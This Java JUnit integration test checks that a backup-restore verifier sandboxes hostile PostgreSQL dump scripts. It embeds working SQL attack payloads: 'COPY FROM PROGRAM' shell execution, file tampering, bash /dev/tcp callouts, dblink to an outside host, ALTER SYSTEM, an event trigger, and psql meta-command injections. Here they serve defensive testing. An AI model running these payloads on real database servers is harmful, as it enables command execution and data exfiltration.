package io.restoreverifier.run;

import static org.assertj.core.api.Assertions.assertThat;

import io.restoreverifier.model.Finding;
import io.restoreverifier.model.FindingCode;
import io.restoreverifier.model.Outcome;
import io.restoreverifier.model.Verdict;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Properties;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A script whose author is after this machine: what it tries stays within the sandbox, or is not even run. */
class HostileScriptIT {
    private static final Path SAMPLE = Path.of("src/test/resources/inspect/sample-plain.sql");

    /** What a superuser of the server can do, hidden where no reader of statements sees it. */
    private static final String ATTACK = """
            CREATE TABLE public.loot (what text, got text);
            CREATE FUNCTION public.tried(what text, command text) RETURNS void LANGUAGE plpgsql AS $f$
            declare line text;
            begin
              create temp table if not exists said (line text);
              truncate said;
              begin
                execute format('copy said from program %L', command);
              exception when others then insert into said values ('refused');
              end;
              insert into public.loot select what, coalesce(string_agg(s.line, ' '), '') from said s;
            end $f$;
            SELECT public.tried('user', 'id -u');
            SELECT public.tried('artifact', 'for f in $(find / -xdev -name "artifact-*" 2>/dev/null; cut -d" " -f5 /proc/self/mountinfo | grep artifact-); do echo x 2>/dev/null >> "$f" && echo changed; done; echo end');
            SELECT public.tried('network', 'timeout 3 bash -c "echo > /dev/tcp/HOST/PORT" 2>/dev/null && echo reached; timeout 3 bash -c "echo > /dev/tcp/127.0.0.1/PORT" 2>/dev/null && echo reached; echo end');
            CREATE FUNCTION public.reset() RETURNS void LANGUAGE plpgsql AS $f$
            begin
              begin
                execute 'alter system set archive_mode = on';
                insert into public.loot values ('alter system', 'done');
              exception when others then insert into public.loot values ('alter system', 'refused');
              end;
              begin
                create extension dblink;
                perform dblink_connect('host=HOST port=PORT user=x dbname=x connect_timeout=3');
                insert into public.loot values ('dblink', 'done');
              exception when others then insert into public.loot values ('dblink', 'refused');
              end;
            end $f$;
            SELECT public.reset();
            CREATE FUNCTION public.undo() RETURNS event_trigger LANGUAGE plpgsql AS $f$
            begin
              execute format('copy public.loot from program %L',
                'timeout 3 bash -c "echo > /dev/tcp/HOST/PORT" 2>/dev/null && printf "event trigger\\treached\\n"; printf "event trigger\\tend\\n"');
            end $f$;
            CREATE EVENT TRIGGER undo ON ddl_command_end EXECUTE FUNCTION public.undo();
            COPY public.invoices""";

    @TempDir
    Path folder;

    private String sample;

    @BeforeEach
    void read() throws IOException {
        sample = Files.readString(SAMPLE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"docker", "local"})
    void whatRunsAsTheServersSuperuserReachesNothingOutside(String sandbox) throws Exception {
        String host = InetAddress.getLocalHost().getHostAddress();
        try (ServerSocket outside = new ServerSocket(0)) {
            outside.setSoTimeout(200);
            String attack = ATTACK.replace("HOST", host).replace("PORT", String.valueOf(outside.getLocalPort()));
            byte[] script = sample.replace("COPY public.invoices", attack).getBytes(StandardCharsets.UTF_8);

            Outcome outcome = verify(sandbox, script);

            assertThat(outcome.findings().stream().filter(f -> f.code() == FindingCode.QUERY_FAILED))
                    .as("what the attacker got")
                    .isEmpty();
            assertThat(outcome.checks().stream().filter(c -> c.check().equals("queries")))
                    .hasSizeGreaterThanOrEqualTo(6);
            assertThat(connected(outside)).as("somebody came out").isFalse();
            assertThat(folder.resolve("catalog/backups/newest")).hasBinaryContent(script);
        }
    }

    /** Nothing of such a script is run, not even what stands before. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\\\\! touch MARKER",
                "\\\\o |touch MARKER",
                "SELECT 'touch MARKER' \\\\g |sh",
                "\\\\copy public.customers to program 'touch MARKER'",
                "COPY public.customers TO PROGRAM 'touch MARKER';",
                "ALTER SYSTEM SET archive_command = 'touch MARKER';"
            })
    void whatPgDumpNeverWritesIsNotRun(String line) throws Exception {
        Path marker = folder.resolve("marker");
        String hostile = line.replace("\\\\", "\\").replace("MARKER", marker.toString());

        Outcome outcome = verify("local", (hostile + "\n" + sample).getBytes(StandardCharsets.UTF_8));

        assertThat(outcome.verdict()).isEqualTo(Verdict.FAILED);
        assertThat(outcome.findings().stream().filter(Finding::isError).map(Finding::code))
                .containsExactly(FindingCode.UNSAFE_ENTRY);
        assertThat(outcome.checks()).isEmpty();
        assertThat(marker).doesNotExist();
    }

    /** The secrets of the server that a script sees are not those of anybody else, and nothing of its rows is told. */
    @Test
    void whatAScriptRaisesIsNotTold() throws Exception {
        String raising = sample.replace(
                "COPY public.invoices",
                "DO $$ begin raise exception 'planted-token %', (select max(name) from public.customers); end $$;\n"
                        + "COPY public.invoices");

        Outcome outcome = verify("docker", raising.getBytes(StandardCharsets.UTF_8));

        assertThat(outcome.verdict()).isEqualTo(Verdict.FAILED);
        assertThat(outcome.findings()).anyMatch(f -> f.code() == FindingCode.RESTORE_ERRORS);
        try (var files = Files.walk(folder.resolve("report"))) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                assertThat(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1))
                        .as(file.toString())
                        .doesNotContain("planted-token");
            }
        }
    }

    private static boolean connected(ServerSocket outside) throws IOException {
        try {
            outside.accept().close();
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }

    private Outcome verify(String sandbox, byte[] artifact) throws IOException, InterruptedException {
        Path catalog = Files.createDirectory(folder.resolve("catalog"));
        Files.write(Files.createDirectory(catalog.resolve("backups")).resolve("newest"), artifact);
        Path entry = Files.writeString(catalog.resolve("entry.yml"), """
                backup: customers
                source: {directory: backups, newest: "newest"}
                restore: {postgresql: {}}
                checks:
                  queries:
                    - {name: is not root, sql: "select bool_and(got <> '0') from loot where what = 'user'", expect: true}
                    - {name: changes no artifact, sql: "select bool_and(got = 'end') from loot where what = 'artifact'", expect: true}
                    - {name: reaches no host, sql: "select bool_and(got = 'end') from loot where what = 'network'", expect: true}
                    - {name: changes no setting, sql: "select got from loot where what = 'alter system'", expect: refused}
                    - {name: reaches no server, sql: "select got from loot where what = 'dblink'", expect: refused}
                    - {name: is told nothing by event, sql: "select bool_and(got = 'end') from loot where what = 'event trigger'", expect: true}
                """);
        Properties properties = new Properties();
        properties.setProperty("restore.catalog", entry.toString());
        properties.setProperty("restore.report", folder.resolve("report").toString());
        properties.setProperty("restore.history", folder.resolve("history").toString());
        properties.setProperty("restore.sandbox", sandbox);
        for (String name : List.of("restore.allure", "restore.postgresql")) {
            properties.setProperty(name, System.getProperty(name, ""));
        }
        try (RestoreRun run = RestoreRun.open(RunOptions.from(properties))) {
            run.begin();
            return run.outcome("customers");
        }
    }
}
